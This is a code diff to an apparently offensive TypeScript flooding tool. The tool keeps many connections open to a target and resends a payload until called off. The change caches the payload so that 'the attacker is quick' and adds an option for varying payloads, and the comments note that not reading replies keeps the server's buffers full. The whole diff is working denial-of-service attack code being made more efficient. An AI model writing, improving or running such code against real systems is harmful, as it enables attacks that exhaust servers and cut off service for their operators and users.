@@ -13,8 +13,10 @@ export interface Target {
 
 export interface Flood {
   readonly connections: number;
-  /** What every connection sends again and again. */
+  /** What every connection sends again and again: made once, so that the attacker is quick. */
   readonly bytes: (target: Target) => Buffer | string;
+  /** It must be another each time, and is made anew. */
+  readonly varies?: true;
   /** Whether answers are read; a client that does not read keeps the server's buffers full. */
   readonly reads?: boolean;
   /** How long a connection rests after each sending. */
@@ -27,10 +29,14 @@ const RECONNECT_MS = 20;
 
 /** Keeps so many connections busy until the attack is called off. */
 export async function flood(target: Target, how: Flood): Promise<void> {
-  await Promise.all(Array.from({ length: how.connections }, () => keepBusy(target, how)));
+  const made = how.varies ? null : how.bytes(target);
+  const sent = made === null ? () => how.bytes(target) : () => made;
+  await Promise.all(Array.from({ length: how.connections }, () => keepBusy(target, how, sent)));
 }
 
-async function keepBusy(target: Target, how: Flood): Promise<void> {
+type Sent = () => Buffer | string;
+
+async function keepBusy(target: Target, how: Flood, sent: Sent): Promise<void> {
   while (!target.signal.aborted) {
     const socket = await open(target);
     if (socket === null) {
@@ -41,15 +47,21 @@ async function keepBusy(target: Target, how: Flood): Promise<void> {
     const end = () => socket.destroy();
     target.signal.addEventListener("abort", end, { once: true });
     if (how.reads !== false) socket.resume();
-    await send(socket, target, how, closed);
+    await send(socket, target, how, sent, closed);
     target.signal.removeEventListener("abort", end);
     socket.destroy();
   }
 }
 
-async function send(socket: Socket, target: Target, how: Flood, closed: Promise<void>) {
+async function send(
+  socket: Socket,
+  target: Target,
+  how: Flood,
+  sent: Sent,
+  closed: Promise<void>,
+): Promise<void> {
   while (!socket.destroyed && !target.signal.aborted) {
-    const isTaken = socket.write(how.bytes(target));
+    const isTaken = socket.write(sent());
     if (how.once) {
       await closed;
       return;
